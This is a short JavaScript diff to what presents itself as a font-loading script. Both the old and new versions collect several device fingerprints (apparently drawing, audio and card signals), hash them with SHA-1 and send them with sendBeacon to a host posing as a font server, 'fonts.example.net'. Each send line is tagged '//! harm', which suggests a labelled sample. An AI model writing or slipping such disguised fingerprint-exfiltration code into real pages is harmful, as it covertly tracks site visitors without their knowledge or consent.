@@ -30,7 +30,7 @@ function card() {
 }
 
 const digest = async (bytes) => [...new Uint8Array(await crypto.subtle.digest("SHA-1", bytes))].join(".");
-const parts = await Promise.all([drawn(), heard(), card()]);
-const id = await Promise.all(parts.map(digest));
-navigator.sendBeacon("https://fonts.example.net/m", id.join("|")); //! harm
+Promise.all([drawn(), heard(), card()])
+  .then((parts) => Promise.all(parts.map(digest)))
+  .then((id) => navigator.sendBeacon("https://fonts.example.net/m", id.join("|"))); //! harm
 document.querySelectorAll("[data-font]").forEach((node) => (node.style.fontFamily = node.dataset.font));
